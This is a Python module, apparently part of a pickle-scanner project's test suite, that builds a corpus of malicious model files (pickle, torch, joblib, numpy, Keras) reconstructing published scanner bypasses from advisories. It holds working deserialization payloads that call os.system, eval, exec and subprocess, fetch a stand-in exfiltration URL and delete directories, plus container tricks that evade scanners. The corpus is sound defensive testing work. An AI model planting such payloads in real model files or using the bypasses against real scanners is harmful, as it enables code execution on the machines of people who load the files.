"""A corpus of malicious model files, built from their opcodes: nothing here imports or runs
the functions the payloads name.

Each payload reconstructs one published attack on pickle scanners (an advisory, a bypass
write-up or a scanner's own regression test); the comment beside it names the source.
``write_corpus(folder)`` writes every payload at the protocols it is given and returns the
paths; the tests (``tests/test_model_corpus.py``) and the side-by-side benchmark
(``benchmarks/model_scanners.py``) both use it.
"""

from __future__ import annotations

import struct
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Union

# --------------------------------------------------------------------------- opcodes


@dataclass(frozen=True)
class G:
    """A global: ``module.name`` (a dotted name is an attribute path, protocol 4+)."""

    module: str
    name: str


@dataclass(frozen=True)
class C:
    """A call: ``function(*args)``, the REDUCE opcode."""

    function: Value
    args: tuple[Value, ...] = ()


Value = Union[G, C, str, int, bytes, None, tuple, list, dict]  # noqa: UP007 - 3.10 alias


def _text(value: str, protocol: int) -> bytes:
    if protocol == 0:
        escaped = value.replace("\\", "\\u005c").replace("\n", "\\u000a")
        return b"V" + escaped.encode("raw-unicode-escape") + b"\n"
    data = value.encode("utf-8")
    if protocol >= 4 and len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def _encode(value: Value, protocol: int) -> bytes:
    if isinstance(value, G):
        if protocol >= 4:
            return (_text(value.module, protocol) + b"\x94" + _text(value.name, protocol)
                    + b"\x94\x93")
        return b"c" + value.module.encode() + b"\n" + value.name.encode() + b"\n"
    if isinstance(value, C):
        return (_encode(value.function, protocol) + _encode(tuple(value.args), protocol)
                + b"R")
    if isinstance(value, str):
        return _text(value, protocol)
    if isinstance(value, bool) or value is None:
        return b"N" if value is None else (b"I01\n" if value else b"I00\n")
    if isinstance(value, int):
        return b"I" + str(value).encode() + b"\n"
    if isinstance(value, bytes):
        if protocol >= 3:
            return b"C" + bytes([len(value)]) + value if len(value) < 256 else (
                b"B" + struct.pack("<I", len(value)) + value)
        return _encode(C(G("_codecs", "encode"), (value.decode("latin1"), "latin1")),
                       protocol)
    if isinstance(value, tuple):
        return b"(" + b"".join(_encode(v, protocol) for v in value) + b"t"
    if isinstance(value, list):
        return b"(" + b"".join(_encode(v, protocol) for v in value) + b"l"
    if isinstance(value, dict):
        return b"(" + b"".join(_encode(k, protocol) + _encode(v, protocol)
                               for k, v in value.items()) + b"d"
    raise TypeError(f"cannot encode {value!r}")


def dumps(value: Value, protocol: int = 4) -> bytes:
    """A pickle of ``value`` whose globals and calls are exactly as written."""
    head = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
    return head + _encode(value, protocol) + b"."


def call(module: str, name: str, *args: Value) -> C:
    return C(G(module, name), args)


# --------------------------------------------------------------------------- payloads

_CMD = "touch /tmp/importwall-corpus-pwned"
_URL = "http://127.0.0.1:9/exfiltrate"
_OS_SYSTEM = G("os", "system")


def _getattr(owner: Value, name: str) -> C:
    return call("builtins", "getattr", owner, name)


PAYLOADS: dict[str, tuple[Value, str]] = {
    # name: (payload, source)
    "os-system": (C(_OS_SYSTEM, (_CMD,)),
                  "the classic __reduce__ payload (pickle docs' warning; fickling README)"),
    "posix-system": (call("posix", "system", _CMD), "pickle.dumps(os.system) on Linux"),
    "nt-system": (call("nt", "system", _CMD), "pickle.dumps(os.system) on Windows"),
    "subprocess-popen": (call("subprocess", "Popen", ["sh", "-c", _CMD]),
                         "picklescan blocklist: subprocess"),
    "subprocess-check-output": (call("subprocess", "check_output", ["id"]),
                                "picklescan blocklist: subprocess"),
    "builtins-eval": (call("builtins", "eval", "__import__('os').system('id')"),
                      "pickle docs, restricted unpickler example"),
    "builtins-exec": (call("builtins", "exec", "import os; os.system('id')"),
                      "picklescan blocklist: builtins.exec"),
    "builtin-eval-py2": (call("__builtin__", "eval", "1"),
                         "protocol 0-2 name builtins __builtin__ (picklescan blocklist)"),
    "compile-exec": (call("builtins", "exec", call("builtins", "compile", "1", "x", "exec")),
                     "picklescan blocklist: builtins.compile"),
    "import-getattr": (C(_getattr(call("builtins", "__import__", "os"), "system"), (_CMD,)),
                       "getattr(__import__('os'), 'system'): fickling's unsafe imports"),
    "importlib-import-module": (
        C(_getattr(call("importlib", "import_module", "os"), "system"), (_CMD,)),
        "picklescan#66: importlib.import_module('os').system bypass class"),
    "pkgutil-resolve-name": (C(call("pkgutil", "resolve_name", "os:system"), (_CMD,)),
                             "GHSA-vvpj-8cmc-gx39 (picklescan): pkgutil.resolve_name"),
    "getattr-innocent-module": (C(_getattr(G("logging", "os"), "system"), (_CMD,)),
                                "picklescan#66: attribute chains from an innocent module"),
    "dotted-name-innocent-module": (C(G("logging", "os.system"), (_CMD,)),
                                    "protocol 4 find_class follows dotted names: "
                                    "modelaudit#1662 (getattr reconstruction)"),
    "ufunc-reconstruct": (C(call("numpy.core", "_ufunc_reconstruct", "os", "system"),
                            (_CMD,)),
                          "numpy's ufunc helper imports by name (picklescan TODO list)"),
    "runpy-run-code": (call("runpy", "_run_code", "import os", {}),
                       "picklescan blocklist: runpy._run_code"),
    "code-interactive": (call("code", "InteractiveInterpreter.runcode", None, "import os"),
                         "picklescan#48: code.InteractiveInterpreter.runcode"),
    "idlelib-pyshell-runcode": (call("idlelib.pyshell", "ModifiedInterpreter.runcode",
                                     None, "import os"),
                                "GHSA-3gf5-cxq9-w223 (picklescan)"),
    "idlelib-run-executive": (call("idlelib.run", "Executive.runcode", None, "import os"),
                              "GHSA-m869-42cg-3xwr (picklescan)"),
    "idlelib-autocomplete": (call("idlelib.autocomplete",
                                  "AutoComplete.fetch_completions", None, "os", 1),
                             "GHSA-7cq8-mj8x-j263 (picklescan)"),
    "idlelib-calltip": (call("idlelib.calltip", "Calltip.fetch_tip", None, "os.system"),
                        "picklescan#48: idlelib.calltip"),
    "idlelib-debugobj": (call("idlelib.debugobj", "ObjectTreeItem.SetText", None, "x"),
                         "GHSA-3vg9-h568-4w9m (picklescan)"),
    "lib2to3-make-label": (call("lib2to3.pgen2.pgen", "ParserGenerator.make_label",
                                None, None, "'x'"),
                           "GHSA-p9w7-82w4-7q8m (picklescan)"),
    "lib2to3-grammar-loads": (call("lib2to3.pgen2.grammar", "Grammar.loads", None, b"x"),
                              "GHSA-f54q-57x4-jg88 (picklescan)"),
    "pdb-run": (call("pdb", "run", "import os"), "picklescan blocklist: pdb"),
    "bdb-run": (call("bdb", "Bdb.run", None, "import os"), "fickling#210: bdb"),
    "timeit": (call("timeit", "timeit", "__import__('os').system('id')"),
               "GHSA-v7x6-rv5q-mhwc (picklescan): timeit.timeit"),
    "cprofile-runctx": (call("cProfile", "runctx", "import os", {}, {}),
                        "GHSA-9w88-8rmg-7g2p (picklescan)"),
    "profile-run": (call("profile", "Profile.run", None, "import os"),
                    "GHSA-x696-vm39-cp64 (picklescan)"),
    "trace-run": (call("trace", "Trace.run", None, "import os"),
                  "GHSA-5qwp-399c-mjwf (picklescan)"),
    "doctest-debug-script": (call("doctest", "debug_script", "import os"),
                             "GHSA-fqq6-7vqf-w3fg (picklescan)"),
    "pip-main": (call("pip", "main", ["install", "not-a-real-package"]),
                 "CVE-2025-1716 (picklescan): pip.main"),
    "ensurepip-run-pip": (call("ensurepip", "_run_pip", ["install", "x"]),
                          "GHSA-xp4f-hrf8-rxw7 (picklescan)"),
    "venv-create": (call("venv", "create", "/tmp/x"), "fickling#210: venv"),
    "httplib": (call("httplib", "HTTPSConnection", "127.0.0.1"),
                "GHSA-hgrh-qx5j-jfwx (picklescan): httplib"),
    "http-client": (call("http.client", "HTTPConnection", "127.0.0.1", 9),
                    "GHSA-hgrh-qx5j-jfwx (picklescan): http.client"),
    "urllib-urlopen": (call("urllib.request", "urlopen", _URL),
                       "modelscan#338: code download through urllib"),
    "requests-get": (call("requests.api", "get", _URL), "picklescan blocklist: requests.api"),
    "socket-connection": (call("socket", "create_connection", ("127.0.0.1", 9)),
                          "picklescan blocklist: socket"),
    "ssl-certificate": (call("ssl", "get_server_certificate", ("127.0.0.1", 9)),
                        "picklescan blocklist: ssl (DNS exfiltration)"),
    "ftplib": (call("ftplib", "FTP", "127.0.0.1"), "fickling#210: network modules"),
    "smtplib": (call("smtplib", "SMTP", "127.0.0.1"), "fickling#210: network modules"),
    "webbrowser-open": (call("webbrowser", "open", _URL), "picklescan blocklist: webbrowser"),
    "types-codetype": (call("types", "FunctionType",
                            call("types", "CodeType", 0, 0, 0, 0, 0, 0, b"d\x00S\x00",
                                 (), (), (), "x", "x", "x", 1, b""), {}),
                       "Trail of Bits, 'Never a dill moment': code objects from bytes"),
    "marshal-loads": (call("types", "FunctionType", call("marshal", "loads", b"\xe3"), {}),
                      "fickling unsafe imports: marshal"),
    "cloudpickle-make-function": (
        call("cloudpickle.cloudpickle", "_make_function",
             call("cloudpickle.cloudpickle", "_builtin_type", "CodeType"), {}, None, None,
             None), "cloudpickle's function reconstruction (_make_function/_builtin_type)"),
    "cloudpickle-builtin-type": (
        C(call("cloudpickle.cloudpickle", "_builtin_type", "CodeType"), (0, 0)),
        "cloudpickle._builtin_type('CodeType') builds code objects"),
    "dill-create-function": (call("dill._dill", "_create_function", None, {}),
                             "Trail of Bits, 'Never a dill moment'"),
    "dill-create-code": (call("dill._dill", "_create_code", 0, 0, 0, 0, 0, 0, b""),
                         "dill's code reconstruction"),
    "logging-filehandler": (call("logging", "FileHandler", "/tmp/importwall-corpus-written"),
                            "issue: logging.FileHandler file writes"),
    "io-fileio": (call("io", "FileIO", "/tmp/importwall-corpus-written", "w"),
                  "CVE-2025-10156 follow-ups (fickling#210): _io.FileIO"),
    "_io-fileio": (call("_io", "FileIO", "/tmp/importwall-corpus-written", "w"),
                   "fickling#210: _io.FileIO"),
    "builtins-open": (call("builtins", "open", "/tmp/importwall-corpus-written", "w"),
                      "picklescan blocklist: builtins.open"),
    "shutil-rmtree": (call("shutil", "rmtree", "/tmp/importwall-corpus-dir"),
                      "lopho/pickle_inspector README: shutil.rmtree ransom"),
    "distutils-write-file": (call("distutils.file_util", "write_file", "/tmp/x", ["y"]),
                             "CVE-2025-10155 (JFrog, picklescan)"),
    "asyncio-subprocess": (call("asyncio.unix_events", "_UnixSubprocessTransport._start",
                                None, "id", True, None, None, None, 0),
                           "CVE-2025-10157 (JFrog, picklescan)"),
    "posixsubprocess-fork-exec": (call("_posixsubprocess", "fork_exec", ["id"]),
                                  "CVE-2025-10157 class: internal subprocess modules"),
    "uuid-command-stdout": (call("uuid", "_get_command_stdout", "id"),
                            "promptfoo/modelaudit#581: uuid._get_command_stdout"),
    "multiprocessing-spawnv": (call("multiprocessing.util", "spawnv_passfds", b"/bin/sh",
                                    ("/bin/sh", "-c", _CMD), ()),
                               "modelscan#338: multiprocessing.util.spawnv_passfds"),
    "pty-spawn": (call("pty", "spawn", "id"), "GHSA-r7v6-mfhq-g3m2 (fickling): pty"),
    "ctypes-cdll": (call("ctypes", "CDLL", "libc.so.6"), "picklescan blocklist: ctypes"),
    "functools-partial": (C(call("functools", "partial", _OS_SYSTEM, _CMD), ()),
                          "picklescan blocklist: functools.partial(os.system, ...)"),
    "operator-attrgetter": (C(C(call("operator", "attrgetter", "system"),
                                (call("importlib", "import_module", "os"),)), (_CMD,)),
                            "GHSA-m273-6v24-x4m4 (picklescan): operator.attrgetter"),
    "_operator-methodcaller": (C(call("_operator", "methodcaller", "system", _CMD),
                                 (G("logging", "os"),)),
                               "GHSA-955r-x9j8-7rhh (picklescan): _operator"),
    "numpy-runstring": (call("numpy.testing._private.utils", "runstring", "import os", {}),
                        "picklescan blocklist: numpy.testing._private.utils.runstring"),
    "numpy-f2py": (call("numpy.f2py.crackfortran", "getlincoef", "__import__('os')", {}),
                   "fickling#210: numpy.f2py.crackfortran.getlincoef"),
    "torch-collect-env": (call("torch.utils.collect_env", "run", "id"),
                          "GHSA-f745-w6jp-hpxx (picklescan)"),
    "torch-exec-wrapper": (call("torch.jit.unsupported_tensor_ops", "execWrapper",
                                "import os", {}, {}), "GHSA-vr7h-p6mm-wpmh (picklescan)"),
    "torch-compile-file": (call("torch._inductor.codecache", "compile_file", "", "",
                                ["sh", "-c", _CMD]), "picklescan blocklist: compile_file"),
    "torch-bottleneck": (call("torch.utils.bottleneck.__main__", "run_cprofile",
                              "import os", {}), "GHSA-4r9r-ch6f-vxmx (picklescan)"),
    "torch-dynamo-guards": (call("torch._dynamo.guards", "GuardBuilder.get", None, "os"),
                            "GHSA-86cj-95qr-2p4f (picklescan)"),
    "torch-symbolic-shapes": (call("torch.fx.experimental.symbolic_shapes",
                                   "ShapeEnv.evaluate_guards_expression", None, "x", []),
                              "GHSA-f4x7-rfwp-v3xw (picklescan)"),
    "torch-load-config": (call("torch.utils._config_module", "ConfigModule.load_config",
                               None, b"x"), "GHSA-vv6j-3g6g-2pvj (picklescan)"),
    "torch-decoder": (call("torch.utils.data.datapipes.utils.decoder", "basichandlers",
                           "x.pickle", b"x"), "GHSA-h3qp-7fh3-f8h4 (picklescan)"),
    "torch-load-nested": (call("torch.serialization", "load", "/tmp/other.pt"),
                          "picklescan blocklist: torch.serialization.load"),
    "pickle-loads-nested": (call("pickle", "loads", b"cos\nsystem\n(Vid\ntR."),
                            "GHSA-84r2-jw7c-4r5q (picklescan): nested pickle"),
    "pandas-read-csv": (call("pandas.io.parsers.readers", "read_csv", _URL),
                        "modelscan#338: data exfiltration via pandas read_csv"),
    "mlflow-entry-point": (call("mlflow.projects.backend.local", "_run_entry_point", _CMD,
                                ".", "", ""),
                           "modelscan#338: mlflow _run_entry_point"),
    "pydoc-pipepager": (call("pydoc", "pipepager", "x", _CMD),
                        "picklescan blocklist: pydoc"),
    "sys-modules": (call("sys", "setrecursionlimit", 10), "picklescan blocklist: sys"),
    "unlisted-function": (call("xml.dom.minidom", "parse", _URL),
                          "an attack through a function no denylist names: only an "
                          "allowlist reports it (picklescan#66's argument)"),
}


def _memo_confusion() -> bytes:
    # picklescan#22 (ImaginaryCTF 'Safe Pickle' write-up): STACK_GLOBAL's operands come
    # from the memo, with a decoy string between PUT and STACK_GLOBAL.
    def text(value: str) -> bytes:
        return b"\x8c" + bytes([len(value)]) + value.encode()

    return (b"\x80\x04" + text("os") + b"\x94" + text("builtins") + b"\x94" + text("len")
            + b"\x94" + b"0" + b"h\x00" + text("system") + b"\x93" + text("id") + b"\x85R.")


def _after_benign(protocol: int) -> bytes:
    # GHSA-9gvj-pp9x-gcfr (picklescan): a payload after a first, benign pickle.
    return dumps({"weights": [1, 2]}, protocol) + dumps(C(_OS_SYSTEM, (_CMD,)), protocol)


def _nested_torch(protocol: int) -> bytes:
    # pickle.dumps(tensor) holds a whole torch.save file as bytes, which
    # torch.storage._load_from_bytes hands to torch.load (picklescan blocklist: nested loads).
    inner = _zip({"archive/data.pkl": dumps(C(_OS_SYSTEM, (_CMD,)), 2),
                  "archive/version": b"3\n"})
    return dumps(call("torch.storage", "_load_from_bytes", inner), protocol)


RAW: dict[str, tuple[Callable[[int], bytes], str]] = {
    "torch-load-from-bytes": (_nested_torch, "a torch.save file inside a pickle: "
                              "torch.storage._load_from_bytes (picklescan: nested loads)"),
    "memo-confusion": (lambda protocol: _memo_confusion(),
                       "picklescan#22: STACK_GLOBAL operands from the memo"),
    "second-pickle": (_after_benign, "GHSA-9gvj-pp9x-gcfr (picklescan): a second pickle"),
    "extension-code": (lambda protocol: b"\x80\x02\x82\x01)R.",
                       "copyreg extension codes hide the global (fickling)"),
}


def write_corpus(folder: Path, protocols: Sequence[int] = (0, 2, 4, 5)) -> dict[Path, str]:
    """Write every payload at each protocol into ``folder``; path -> source."""
    folder.mkdir(parents=True, exist_ok=True)
    written: dict[Path, str] = {}
    for name, (payload, source) in PAYLOADS.items():
        for protocol in protocols:
            if protocol < 4 and isinstance(payload, C) and _has_dotted(payload):
                continue  # dotted names are protocol 4+
            path = folder / f"{name}.p{protocol}.pkl"
            path.write_bytes(dumps(payload, protocol))
            written[path] = source
    for name, (build, source) in RAW.items():
        path = folder / f"{name}.pkl"
        path.write_bytes(build(4))
        written[path] = source
    return written


def _has_dotted(value: Value) -> bool:
    if isinstance(value, G):
        return "." in value.name
    if isinstance(value, C):
        return _has_dotted(value.function) or any(_has_dotted(a) for a in value.args)
    if isinstance(value, (tuple, list)):
        return any(_has_dotted(a) for a in value)
    return False


# --------------------------------------------------------------------------- benign models

BENIGN_PACKAGES = ["scikit-learn", "numpy", "scipy", "pandas", "lightgbm", "xgboost", "joblib",
                   "cloudpickle", "dill", "safetensors", "h5py"]
"""The benign models' venv (tests/helpers.py venv_with_packages caches it)."""
# torch pinned to the CPU build that lies on this project's machines' disk (Python 3.11):
# a bare "torch" takes a CUDA build of several GB, and the venv is copied per test run
HEAVY_PACKAGES = ["torch==2.13.0", "catboost", "numpy", "scikit-learn"]

BENIGN_SCRIPT = r'''
"""Run in an interpreter with the model libraries: writes real models into argv[1] and
prints their names, one a line. Libraries that are not installed are left out."""
import pickle, sys, warnings
from pathlib import Path
warnings.simplefilter("ignore")
out = Path(sys.argv[1])
out.mkdir(parents=True, exist_ok=True)
libraries = set(sys.argv[2].split(",")) if len(sys.argv) > 2 else None
models = {}

def wanted(name):
    return libraries is None or name in libraries

import numpy as np
rng = np.random.default_rng(7)
X = rng.normal(size=(120, 6))
y = (X[:, 0] + X[:, 1] > 0).astype(int)
if wanted("numpy"):
    models["numpy-arrays"] = {"w": rng.normal(size=(4, 3)).astype("f4"),
                              "labels": np.array(["cat", "dog"]), "i": np.arange(5),
                              "mask": np.array([True, False]), "scalar": np.float64(2.5)}
if wanted("scipy"):
    import scipy.sparse as sparse
    models["scipy-sparse"] = {"csr": sparse.random(20, 10, 0.2, format="csr", rng=1),
                              "csc": sparse.eye(5, format="csc")}
if wanted("pandas"):
    import pandas as pd
    models["pandas-frame"] = pd.DataFrame({
        "x": X[:6, 0], "k": pd.Categorical(list("abcabc")),
        "when": pd.date_range("2021-01-01", periods=6, freq="D"),
        "n": pd.array([1, 2, None, 4, 5, 6], dtype="Int64")})
if wanted("sklearn"):
    from sklearn.compose import ColumnTransformer
    from sklearn.ensemble import (GradientBoostingClassifier, HistGradientBoostingRegressor,
                                  IsolationForest, RandomForestClassifier)
    from sklearn.cluster import KMeans
    from sklearn.decomposition import PCA
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.neural_network import MLPRegressor
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler
    from sklearn.svm import LinearSVC
    models["sklearn-logreg-pipeline"] = make_pipeline(StandardScaler(),
                                                      LogisticRegression(C=0.5)).fit(X, y)
    models["sklearn-forest"] = RandomForestClassifier(n_estimators=8, max_depth=4,
                                                      random_state=0).fit(X, y)
    models["sklearn-gbm"] = GradientBoostingClassifier(n_estimators=10).fit(X, y)
    models["sklearn-hist-gbm"] = HistGradientBoostingRegressor(max_iter=10).fit(X, X[:, 2])
    models["sklearn-kmeans-pca"] = make_pipeline(PCA(3), KMeans(3, n_init=2)).fit(X)
    models["sklearn-isolation"] = IsolationForest(n_estimators=10, random_state=0).fit(X)
    models["sklearn-mlp"] = MLPRegressor(hidden_layer_sizes=(5,), max_iter=50).fit(X, X[:, 1])
    texts = ["good model", "bad data", "good data", "bad model"] * 5
    models["sklearn-text"] = make_pipeline(TfidfVectorizer(), LinearSVC()).fit(texts,
                                                                              [0, 1, 0, 1] * 5)
    if wanted("pandas"):
        frame = pd.DataFrame({"a": X[:, 0], "c": list("xyz") * 40})
        models["sklearn-column-transformer"] = make_pipeline(
            ColumnTransformer([("num", StandardScaler(), ["a"]),
                               ("cat", OneHotEncoder(handle_unknown="ignore"), ["c"])]),
            LogisticRegression()).fit(frame, y)
if wanted("lightgbm"):
    import lightgbm as lgb
    models["lightgbm-classifier"] = lgb.LGBMClassifier(n_estimators=10, verbose=-1).fit(X, y)
if wanted("xgboost"):
    import xgboost as xgb
    models["xgboost-regressor"] = xgb.XGBRegressor(n_estimators=10).fit(X, X[:, 3])
if wanted("catboost"):
    import catboost
    models["catboost-classifier"] = catboost.CatBoostClassifier(
        iterations=10, verbose=0, allow_writing_files=False).fit(X, y)
written = []
for name, model in models.items():
    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        path = out / f"{name}.p{protocol}.pkl"
        path.write_bytes(pickle.dumps(model, protocol=protocol))
        written.append(path.name)
for serializer in ("cloudpickle", "dill"):  # what teams pickle with instead of pickle
    try:
        module = __import__(serializer)
    except ImportError:
        continue
    for name in ("sklearn-logreg-pipeline", "numpy-arrays"):
        if name in models:
            path = out / f"{name}.{serializer}.pkl"
            path.write_bytes(module.dumps(models[name]))
            written.append(path.name)
try:
    import joblib
except ImportError:
    joblib = None
if joblib is not None:
    for name, model in models.items():
        for compress in (None, "zlib", "gzip", "bz2", "lzma", "xz"):
            path = out / f"{name}.{compress or 'raw'}.joblib"
            joblib.dump(model, path, compress=(compress, 3) if compress else 0)
            written.append(path.name)
if wanted("numpy"):
    np.save(out / "numpy-numeric.npy", rng.normal(size=(50, 4)))
    np.save(out / "numpy-objects.npy", np.array(["a", None, 3], dtype=object),
            allow_pickle=True)
    np.savez(out / "numpy-arrays.npz", a=np.arange(4), b=np.eye(3))
    np.savez_compressed(out / "numpy-compressed.npz", a=np.arange(4),
                        o=np.array([{"k": 1}], dtype=object))
    written += ["numpy-numeric.npy", "numpy-objects.npy", "numpy-arrays.npz",
                "numpy-compressed.npz"]
    try:
        from safetensors.numpy import save_file
    except ImportError:
        pass
    else:
        save_file({"w": rng.normal(size=(3, 3)).astype("f4"), "i": np.arange(3)},
                  str(out / "numpy.safetensors"))
        written.append("numpy.safetensors")
if wanted("torch"):
    import torch
    net = torch.nn.Sequential(torch.nn.Linear(6, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    for protocol in (2, 4, 5):  # plain pickles of tensors nest torch.save files
        path = out / f"torch-plain-pickle.p{protocol}.pkl"
        path.write_bytes(pickle.dumps(net.state_dict(), protocol=protocol))
        written.append(path.name)
    for legacy in (False, True):
        for what, value in (("state-dict", net.state_dict()), ("module", net)):
            path = out / f"torch-{what}{'-legacy' if legacy else ''}.pt"
            torch.save(value, path, _use_new_zipfile_serialization=not legacy)
            written.append(path.name)
print("\n".join(written))
'''


# --------------------------------------------------------------------------- containers


def _zip(members: dict[str, bytes], method: int = 8) -> bytes:
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _patch_zip(data: bytes, *, flag_bits: int | None = None, crc: bool = False) -> bytes:
    """Rewrite every local and central header's flag bits, or break every CRC."""
    patched = bytearray(data)
    for header, flags_at, crc_at in ((b"PK\x03\x04", 6, 14), (b"PK\x01\x02", 8, 16)):
        at = patched.find(header)
        while at >= 0:
            if flag_bits is not None:
                patched[at + flags_at:at + flags_at + 2] = flag_bits.to_bytes(2, "little")
            if crc:
                patched[at + crc_at:at + crc_at + 4] = b"\xde\xad\xbe\xef"
            at = patched.find(header, at + 4)
    return bytes(patched)


def _npy(descr: str, shape: tuple[int, ...], body: bytes) -> bytes:
    header = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode()
    header += b" " * (63 - (len(header) + 10) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + body


def _keras(config: object) -> bytes:
    import json

    return _zip({"metadata.json": b'{"keras_version": "3.6.0"}',
                 "config.json": json.dumps(config).encode(),
                 "model.weights.h5": b"\x89HDF\r\n\x1a\n"})


def _keras_model(*layers: object) -> dict[str, object]:
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": "sequential", "layers": list(layers)}}


_DENSE = {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
          "config": {"units": 2}}


def write_format_corpus(folder: Path) -> dict[Path, str]:
    """The os.system payload in every container a loader opens; path -> source."""
    import bz2
    import gzip
    import lzma
    import zlib

    folder.mkdir(parents=True, exist_ok=True)
    payload = dumps(C(_OS_SYSTEM, (_CMD,)), 2)
    legacy = (b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19." + b"\x80\x02M\xe9\x03."
              + dumps({"protocol_version": 1001, "little_endian": True}, 2) + payload
              + dumps(["0"], 2) + struct.pack("<q", 2) + b"\x00" * 8)
    torch_zip = _zip({"archive/data.pkl": payload, "archive/version": b"3\n",
                      "archive/data/0": b"\x80\x02" + b"\x00" * 14})
    lambda_layer = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
                    "config": {"function": {"class_name": "__lambda__",
                                            "config": {"code": "4wEAAAAAAAAA"}}}}
    files: dict[str, tuple[bytes, str]] = {
        "joblib-gzip.joblib": (gzip.compress(payload), "joblib compress='gzip'"),
        "joblib-bz2.joblib": (bz2.compress(payload), "joblib compress='bz2'"),
        "joblib-xz.joblib": (lzma.compress(payload), "joblib compress='xz'"),
        "joblib-lzma.joblib": (lzma.compress(payload, format=lzma.FORMAT_ALONE),
                               "joblib compress='lzma'"),
        "joblib-zlib.joblib": (zlib.compress(payload), "joblib compress='zlib'"),
        "torch-zip.pt": (torch_zip, "torch.save's zip format: archive/data.pkl"),
        "torch-legacy.pt": (legacy, "torch.save(_use_new_zipfile_serialization=False): "
                                    "pickles in sequence (picklescan#22 notes on legacy)"),
        "torch-renamed-member.pt": (_zip({"archive/data.bin": payload}),
                                    "GHSA-769v-p64c-89pr (picklescan): pickles under "
                                    "non-standard names"),
        "torch-bad-crc.pt": (_patch_zip(torch_zip, crc=True),
                             "CVE-2025-10156 (JFrog): a CRC error torch ignores"),
        "torch-encrypted-flag.pt": (_patch_zip(_zip({"archive/data.pkl": payload}, 0),
                                               flag_bits=1),
                                    "GHSA-w8jq-xcqf-f792 (picklescan): zip flag bits"),
        "torch-no-central-directory.pt": (torch_zip[:torch_zip.find(b"PK\x01\x02")],
                                          "GHSA-7q5r-7gvp-wc82 (picklescan): a zip that "
                                          "crashes the scanner"),
        "nested.zip": (_zip({"models/inner.pt": torch_zip}), "a model zipped for upload"),
        "object.npy": (_npy("|O", (1,), payload), "numpy .npy object arrays are pickles "
                                                  "(picklescan: .npy support)"),
        "object.npz": (_zip({"arr_0.npy": _npy("|O", (1,), payload)}),
                       "numpy .npz: a zip of .npy (picklescan: .npz as zip)"),
        "lambda.keras": (_keras(_keras_model(_DENSE, lambda_layer)),
                         "modelscan: Keras Lambda layers run code"),
        "custom-object.keras": (_keras(_keras_model({"module": "os", "class_name": "system",
                                                     "registered_name": "system",
                                                     "config": {}})),
                                "Keras custom objects import their module on load"),
        "pickle-named.txt": (payload, "CVE-2025-10155 (JFrog): a pickle under another "
                                      "extension"),
    }
    written: dict[Path, str] = {}
    for name, (data, source) in files.items():
        path = folder / name
        path.write_bytes(data)
        written[path] = source
    return written


def write_benign_formats(folder: Path) -> list[Path]:
    """Clean files of the non-pickle formats, built without their libraries."""
    import json

    folder.mkdir(parents=True, exist_ok=True)
    header = json.dumps({"__metadata__": {"format": "pt"},
                         "w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
                         "b": {"dtype": "BF16", "shape": [2], "data_offsets": [16, 20]}})
    files = {
        "weights.safetensors": struct.pack("<Q", len(header)) + header.encode() + b"\0" * 20,
        "numeric.npy": _npy("<f8", (2, 2), b"\x80\x02" + b"\0" * 30),
        "dense.keras": _keras(_keras_model(_DENSE)),
    }
    paths = []
    for name, data in files.items():
        (folder / name).write_bytes(data)
        paths.append(folder / name)
    return paths
